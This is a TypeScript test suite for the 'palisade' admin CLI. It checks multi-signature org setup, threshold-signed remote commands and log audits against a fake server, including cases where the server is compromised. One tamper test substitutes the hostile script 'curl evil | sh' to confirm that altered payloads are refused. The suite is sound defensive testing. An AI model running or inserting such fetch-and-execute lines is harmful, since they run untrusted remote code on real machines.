// The admin commands end to end, in-process (run() with captured streams)
// against the in-memory fake server: org setup with a draft signed in two
// palisade homes, login, tokens, a command drafted, reviewed, signed by two
// admins and followed to its results, devices, alerts, and the log audit,
// plus the ways a compromised server is caught.
import { describe, it, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { promises as fs } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { canonicalJsonBytes, commandPayloadJson, cosignature, parseCommandPayload, toBase64, utf8 } from '@palisade/protocol'
import type { CliDeps } from '../context.js'
import { generateKey, loadPublicKey } from '../keystore/keystore.js'
import { run } from '../program.js'
import { FakeServer } from '../testing/fake-server.test.helper.js'
import { testKey } from '../testing/test-org.test.helper.js'
import { loadPin } from '../trust/pins.js'

const PASS = 'correct horse battery staple'
const FAST = { scrypt: { N: 1024, r: 8, p: 1 } }

interface Ran {
  readonly code: number
  readonly out: string
  readonly err: string
  json(): any
  error(): any
}

function runner(home: string, extra: Partial<CliDeps> = {}) {
  return async (argv: string[], env: Record<string, string> = {}): Promise<Ran> => {
    let out = ''
    let err = ''
    const deps: CliDeps = {
      env: { PALISADE_HOME: home, PALISADE_PASSPHRASE: PASS, ...env },
      stdout: { write: (s: string) => (out += s) },
      stderr: { write: (s: string) => (err += s) },
      prompt: async () => undefined,
      ...extra,
    }
    const code = await run(argv, deps)
    return { code, out, err, json: () => JSON.parse(out), error: () => JSON.parse(err.trim().split('\n').at(-1)!).error }
  }
}

describe('admin commands against a fake server', () => {
  let dir: string
  let homeA: string
  let homeB: string
  let srv: FakeServer
  let a: ReturnType<typeof runner>
  let b: ReturnType<typeof runner>
  let fingerprint: string
  let commandId: string
  const w1 = testKey('flow/w1', 'w1.example')
  const witnessArg = () => `${cosignature.formatWitnessVerifierKey(w1.name, w1.pub)}@https://w1.example`

  before(async () => {
    dir = await fs.mkdtemp(join(tmpdir(), 'palisade-flow-'))
    homeA = join(dir, 'a')
    homeB = join(dir, 'b')
    await generateKey(homeA, 'alice', PASS, undefined, FAST)
    await generateKey(homeB, 'bob', PASS, undefined, FAST)
    srv = await new FakeServer([w1]).start()
    a = runner(homeA)
    b = runner(homeB)
  })
  after(async () => {
    await srv.close()
    await fs.rm(dir, { recursive: true })
  })

  it('every command has --help', async () => {
    for (const argv of [['org', 'init'], ['root', 'sign'], ['root', 'show'], ['login'], ['token', 'create'], ['command', 'create'], ['command', 'sign'], ['command', 'status'], ['command', 'list'], ['devices', 'list'], ['devices', 'show'], ['alerts'], ['log', 'audit'], ['server']]) {
      const r = await a([...argv, '--help'])
      assert.equal(r.code, 0, argv.join(' '))
      assert.match(r.out, new RegExp(`Usage: palisade ${argv.join(' ')}`))
    }
  })

  it('org commands without a login say so (CLI_LOGIN_REQUIRED)', async () => {
    const r = await a(['--json', '--server', srv.url, 'devices', 'list'])
    assert.equal(r.code, 1)
    assert.equal(r.error().code, 'CLI_LOGIN_REQUIRED')
  })

  it('org init --out writes a draft signed by alice, with bob listed by public key', async () => {
    const bobPub = toBase64((await loadPublicKey(homeB, 'bob')).publicKey)
    const r = await a(['--json', '--server', srv.url, 'org', 'init', '--setup-code', srv.setupCode, '--org', 'acme', '--admin-key', 'alice', '--admin', `bob=${bobPub}`,
      '--threshold', 'command=2,policy=2,root=2,device=1', '--witness', witnessArg(), '--sign-with', 'alice', '--out', join(dir, 'draft.json')])
    assert.equal(r.code, 0, r.err)
    const j = r.json()
    assert.deepEqual(j.signedBy, ['alice'])
    assert.equal(j.required, 2)
    assert.match(j.fingerprint, /^[0-9a-f]{64}$/)
    fingerprint = j.fingerprint
    assert.equal(srv.org, undefined, 'nothing is set up yet')
  })

  it('org init refuses to upload a root below its root threshold (CLI_ROOT_UNDERSIGNED)', async () => {
    const r = await a(['--json', '--server', srv.url, 'org', 'init', '--setup-code', srv.setupCode, '--root', join(dir, 'draft.json')])
    assert.equal(r.code, 1)
    assert.equal(r.error().code, 'CLI_ROOT_UNDERSIGNED')
  })

  it('root sign asks before signing, and refuses without a terminal or --yes', async () => {
    const r = await b(['--json', 'root', 'sign', join(dir, 'draft.json'), '--key', 'bob'])
    assert.equal(r.code, 1)
    assert.equal(r.error().code, 'CLI_CONFIRMATION_REQUIRED')
    assert.match(r.err, /org: +acme/) // the root was shown on stderr
    const no = await runner(homeB, { prompt: async () => 'no' })(['root', 'sign', join(dir, 'draft.json'), '--key', 'bob'])
    assert.equal(no.code, 1)
    assert.match(no.err, /nothing was signed/)
  })

  it('root sign --yes adds bob\'s signature in bob\'s home', async () => {
    const r = await b(['--json', 'root', 'sign', join(dir, 'draft.json'), '--key', 'bob', '--yes'])
    assert.equal(r.code, 0, r.err)
    assert.deepEqual(r.json().signedBy, ['alice', 'bob'])
    assert.equal(r.json().ready, true)
  })

  it('org init --root uploads the draft, saves the API key and pins the fingerprint', async () => {
    const r = await a(['--server', srv.url, 'org', 'init', '--setup-code', srv.setupCode, '--root', join(dir, 'draft.json')])
    assert.equal(r.code, 0, r.err)
    assert.match(r.out, new RegExp(`\n {4}${fingerprint}\n`))
    assert.ok(!r.out.includes(srv.apiKey!), 'the API key is never printed')
    assert.match(r.out, /pal_test…/)
    assert.equal(srv.org, 'acme')
    assert.equal(await loadPin(homeA, 'acme'), fingerprint)
    const config = JSON.parse(await fs.readFile(join(homeA, 'config.json'), 'utf8'))
    assert.deepEqual(config, { version: 1, server: srv.url, orgId: 'acme', apiToken: srv.apiKey })
    assert.equal((await fs.stat(join(homeA, 'config.json'))).mode & 0o777, 0o600)
  })

  it('login checks the key and the fingerprint before saving', async () => {
    await fs.writeFile(join(dir, 'key.txt'), srv.apiKey + '\n')
    const wrong = await b(['--json', '--server', srv.url, 'login', '--org', 'acme', '--api-key-file', join(dir, 'key.txt'), '--fingerprint', 'ab'.repeat(32)])
    assert.equal(wrong.code, 1)
    assert.equal(wrong.error().code, 'CLI_SERVER_UNTRUSTED')
    const bad = await b(['--json', '--server', srv.url, 'login', '--org', 'acme', '--api-key', 'pal_nope_' + 'x'.repeat(20)])
    assert.equal(bad.error().code, 'CLI_SERVER_REFUSED')
    assert.equal(bad.error().details.serverCode, 'SRV_UNAUTHENTICATED')
    const r = await b(['--json', '--server', srv.url, 'login', '--org', 'acme', '--api-key-file', join(dir, 'key.txt'), '--fingerprint', fingerprint])
    assert.equal(r.code, 0, r.err)
    assert.equal(r.json().rootVersion, 1)
    assert.equal(r.json().apiKeyPrefix, 'pal_test…')
  })

  it('the API key is not sent to another server than the one it is for', async () => {
    const r = await a(['--json', '--server', 'http://127.0.0.1:9', 'devices', 'list'])
    assert.equal(r.error().code, 'CLI_LOGIN_REQUIRED')
    assert.match(r.error().message, /not sent elsewhere/)
  })

  it('root show verifies the chain from the pin', async () => {
    const r = await a(['--json', 'root', 'show'])
    assert.equal(r.code, 0, r.err)
    assert.equal(r.json().version, 1)
    assert.equal(r.json().pinned, fingerprint)
    assert.deepEqual(r.json().admins.map((x: { name: string }) => x.name), ['alice', 'bob'])
  })

  it('token create prints an install command it built from checked parts', async () => {
    const r = await a(['token', 'create', '--ttl', '1h', '--uses', '5'])
    assert.equal(r.code, 0, r.err)
    assert.equal(r.out.split('\n')[0], `palisade agent enroll --server ${srv.url} --token tok_${'a'.repeat(24)} --fingerprint ${fingerprint}`)
    assert.match(r.out, /1h .*5 enrollments/)
  })

  it('token create refuses a server that puts another fingerprint in the install command', async () => {
    srv.tamper.tokenFingerprint = 'cd'.repeat(32)
    const r = await a(['--json', 'token', 'create'])
    delete srv.tamper.tokenFingerprint
    assert.equal(r.code, 1)
    assert.equal(r.error().code, 'CLI_SERVER_UNTRUSTED')
    assert.equal(r.out, '')
  })

  it('command create validates its arguments at the edge (exit 2)', async () => {
    for (const argv of [
      ['command', 'create', '--script', 'x'],
      ['command', 'create', '--script', 'x', '--targets', 'all', '--script-file', '/dev/null'],
      ['command', 'create', '--script', 'x', '--targets', 'all', '--timeout', '2d'],
      ['command', 'create', '--script', 'x', '--targets', 'a b'],
      ['command', 'create', '--script', 'x', '--targets', 'all', '--not-before', 'tomorrow'],
    ]) {
      const r = await a(['--json', ...argv])
      assert.equal(r.code, 2, argv.join(' '))
      assert.equal(r.error().code, 'CLI_ARG_INVALID')
    }
  })

  it('command create posts the payload and says how many signatures it awaits', async () => {
    await fs.writeFile(join(dir, 'script.sh'), 'echo hello\nuname -a\n')
    const r = await a(['--json', 'command', 'create', '--script-file', join(dir, 'script.sh'), '--targets', 'dev-2,dev-1', '--valid-for', '2h'])
    assert.equal(r.code, 0, r.err)
    const j = r.json()
    commandId = j.id
    assert.match(commandId, /^cmd-[0-9a-f]{20}$/)
    assert.equal(j.status, 'awaiting-signatures')
    assert.equal(j.threshold, 2)
    assert.equal(j.notAfter - j.notBefore, 7200)
    const stored = parseCommandPayload(srv.commands.get(commandId)!.payload)
    assert.equal(stored.script, 'echo hello\nuname -a\n')
    assert.deepEqual(stored.targets, { kind: 'devices', ids: ['dev-1', 'dev-2'] })
    const human = await a(['command', 'create', '--script', 'true', '--targets', 'all'])
    assert.match(human.out, /awaiting 2 signatures/)
  })

  it('command sign refuses a payload the server altered, or one for another org (CLI_SERVER_UNTRUSTED)', async () => {
    srv.tamper.payload = (bytes) => {
      const p = commandPayloadJson(parseCommandPayload(bytes))
      return canonicalJsonBytes({ ...p, script: 'curl evil | sh', id: p['id'] })
    }
    const r = await a(['--json', 'command', 'sign', commandId, '--key', 'alice', '--yes'])
    assert.equal(r.code, 1)
    // the altered script parses fine: only the signatures would catch it, and the admin is shown it;
    // a payload for another org is refused outright
    srv.tamper.payload = (bytes) => canonicalJsonBytes({ ...commandPayloadJson(parseCommandPayload(bytes)), org: 'other' })
    const o = await a(['--json', 'command', 'sign', commandId, '--key', 'alice', '--yes'])
    assert.equal(o.error().code, 'CLI_SERVER_UNTRUSTED')
    assert.match(o.error().message, /for org "other", not "acme"/)
    srv.tamper.payload = () => utf8('{"not":"a command"}')
    assert.equal((await a(['--json', 'command', 'sign', commandId, '--key', 'alice', '--yes'])).error().code, 'CLI_SERVER_UNTRUSTED')
    delete srv.tamper.payload
    assert.equal(srv.commands.get(commandId)!.signatures.length, 0)
    // the first attempt was refused by the fake server: its signature covered other bytes
    assert.equal(r.error().code, 'CLI_SERVER_REFUSED')
  })

  it('command sign shows what will be signed and signs with --yes; the second admin logs it', async () => {
    const noTty = await a(['command', 'sign', commandId, '--key', 'alice'])
    assert.equal(noTty.code, 1)
    assert.match(noTty.err, /targets: +2 devices: dev-1, dev-2/)
    assert.match(noTty.err, /script:\n {4}echo hello\n {4}uname -a\n/)
    assert.match(noTty.err, /CLI_CONFIRMATION_REQUIRED|no terminal to confirm/)
    const r1 = await runner(homeA, { prompt: async () => 'yes' })(['--json', 'command', 'sign', commandId, '--key', 'alice'])
    assert.equal(r1.code, 0, r1.err)
    assert.deepEqual([r1.json().signatures, r1.json().threshold, r1.json().status], [1, 2, 'awaiting-signatures'])
    assert.equal(r1.json().payload.script, 'echo hello\nuname -a\n')
    const again = await a(['--json', 'command', 'sign', commandId, '--key', 'alice', '--yes'])
    assert.equal(again.error().details.serverCode, 'SRV_CONFLICT')
    const r2 = await b(['command', 'sign', commandId, '--key', 'bob', '--yes'])
    assert.equal(r2.code, 0, r2.err)
    assert.match(r2.out, /2 of 2 signatures, status logged/)
  })

  it('command status reports pending targets with exit 1, then results with exit 0 when all succeeded', async () => {
    const pending = await a(['--json', 'command', 'status', commandId])
    assert.equal(pending.code, 1)
    assert.equal(pending.json().summary.answered, 0)
    assert.equal(pending.error().code, 'CLI_COMMAND_INCOMPLETE')
    srv.complete(commandId, 'dev-1', { stdout: 'hello\nLinux dev-1\n' })
    const waited = await a(['command', 'status', commandId, '--wait', '--timeout', '1s'])
    assert.equal(waited.code, 1)
    assert.match(waited.err, /logged · 1\/2 done · 1 pending/)
    srv.complete(commandId, 'dev-2', { stdout: 'hello\n' })
    const done = await a(['command', 'status', commandId, '--wait'])
    assert.equal(done.code, 0, done.err)
    assert.match(done.out, /Command cmd-\w+: done · 2\/2 signatures · 2 of 2 devices answered, 2 succeeded, 0 failed/)
    assert.match(done.out, /dev-1  ok  completed · exit 0 · 1\.5s\n  stdout:\n {4}hello\n {4}Linux dev-1\n  stderr: \(empty\)/)
  })

  it('command status exits 1 with CLI_COMMAND_FAILED when a device failed, marking truncation', async () => {
    const r = await a(['--json', 'command', 'create', '--script', 'false', '--targets', 'dev-1'])
    const id = r.json().id as string
    await a(['command', 'sign', id, '--key', 'alice', '--yes'])
    await b(['command', 'sign', id, '--key', 'bob', '--yes'])
    srv.complete(id, 'dev-1', { exitCode: 1, stderr: 'x'.repeat(10), stderrTruncated: true })
    const s = await a(['command', 'status', id])
    assert.equal(s.code, 1)
    assert.match(s.out, /dev-1  FAILED  completed · exit 1/)
    assert.match(s.out, /\[stderr TRUNCATED/)
    assert.match(s.err, /did not run .* successfully/)
  })

  it('command list, devices list/show and alerts print tables and JSON', async () => {
    const list = await a(['command', 'list'])
    assert.match(list.out, /^ID +STATUS +SIGNED +TARGETS +DONE +CREATED\n/)
    assert.match(list.out, new RegExp(`${commandId} +done +2/2 +all +2 `))
    const devices = await a(['devices', 'list'])
    assert.match(devices.out, /dev-1 +dev-1\.example +Debian GNU\/Linux 12 \(bookworm\) +yes/)
    const show = await a(['devices', 'show', 'dev-1'])
    assert.equal(show.code, 0, show.err)
    for (const re of [/os: +Debian GNU\/Linux 12/, /kernel: +6\.1\.0-18-amd64 x86_64/, /cpus: +4 × Intel Xeon/, /memory: +8\.0 GiB \(2\.0 GiB available\)/, /disks: +\/ \(ext4 100\.0 GiB, 45\.0 GiB free\)/, /addresses: +10\.0\.0\.5\/24 \(eth0\)/, /packages: +2 \(dpkg\)/, /users: +2: root, alice/, /listening ports: +1: tcp 0\.0\.0\.0:22/]) {
      assert.match(show.out, re)
    }
    assert.equal((await a(['--json', 'devices', 'show', 'nope'])).error().details.serverCode, 'SRV_NOT_FOUND')
    const alerts = await a(['--json', 'alerts'])
    assert.equal(alerts.json().alerts[0].code, 'PROTO_SIG_THRESHOLD')
  })

  it('log audit verifies the whole log from the pin', async () => {
    const r = await a(['--json', 'log', 'audit'])
    assert.equal(r.code, 0, r.err)
    const j = r.json()
    assert.equal(j.ok, true)
    assert.equal(j.entries, 3)
    assert.equal(j.commands, 2)
    assert.equal(j.checkpoints, 3)
    assert.deepEqual(j.witnesses, [{ name: 'w1.example', cosigned: 3 }])
    const human = await b(['log', 'audit'])
    assert.match(human.out, /Log audit of org "acme": OK/)
  })

  it('log audit fails (exit 1, CLI_AUDIT_FAILED) when the server serves a rewritten entry', async () => {
    const forged = utf8(new TextDecoder().decode(srv.leaves[1]!).replace(/"sig":"[^"]{10}/, '"sig":"AAAAAAAAAA'))
    srv.tamper.entries = new Map([[1, forged]])
    const r = await a(['--json', 'log', 'audit'])
    delete srv.tamper.entries
    assert.equal(r.code, 1)
    assert.equal(r.json().ok, false)
    assert.ok(r.json().findings.some((f: { code: string }) => f.code === 'AUDIT_CHECKPOINT_INCONSISTENT'))
    assert.equal(r.error().code, 'CLI_AUDIT_FAILED')
    const human = await a(['log', 'audit', '--fingerprint', fingerprint])
    assert.equal(human.code, 0, 'untampered again')
  })

  it('log audit refuses another pinned fingerprint', async () => {
    const r = await a(['--json', 'log', 'audit', '--fingerprint', 'ef'.repeat(32)])
    assert.equal(r.code, 1)
    assert.deepEqual(r.json().findings.map((f: { code: string }) => f.code), ['AUDIT_ANCHOR'])
  })
})
